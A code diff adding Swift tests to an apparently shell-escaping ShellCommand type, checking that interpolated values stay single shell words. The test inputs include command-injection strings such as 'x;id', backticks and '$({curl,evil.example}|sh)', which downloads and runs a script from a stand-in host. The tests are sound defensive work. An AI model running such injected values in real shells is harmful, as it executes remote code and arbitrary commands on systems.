@@ -85,4 +85,25 @@ import Testing
         }
         #expect(long.isEmpty, "\(long)")
     }
+
+    /// Whatever is put into a command is one word of the shell.
+    @Test(arguments: [
+        "x;id", "$({curl,evil.example}|sh)", "`id`", "a b", "it's", "", "a\nb", "*", "~root", "a&b", "-rf", "é\u{202e}x",
+        "\"", "\\", "#a", "!!",
+    ])
+    func `a command keeps a value in one word`(value: String) throws {
+        let command: ShellCommand = "printf [%s] \(value) \(7) | cat"
+        let output = try Subprocess.run(["/bin/sh", "-c", command.text], deadline: 5_000, limit: 1_000)
+        let words = value.hasPrefix("-") ? "[--][\(value)][7]" : "[\(value)][7]"
+        #expect(String(decoding: output, as: UTF8.self) == words)
+        #expect((try? Subprocess.run(["/bin/sh", "-c", ShellCommand(words: ["printf", "[%s]", value]).text], deadline: 5_000, limit: 1_000))
+            == Array("[\(value)]".utf8))
+    }
+
+    @Test func `plain words stay plain`() {
+        let host = "a-b.example:80"
+        let restart: ShellCommand = "systemctl restart \("app@1.service")"
+        let command: ShellCommand = "ss -ltn 'sport = :\(80)' \(host) /run/\("x") && \(restart)"
+        #expect(command.text == "ss -ltn 'sport = :80' a-b.example:80 /run/x && systemctl restart app@1.service")
+    }
 }
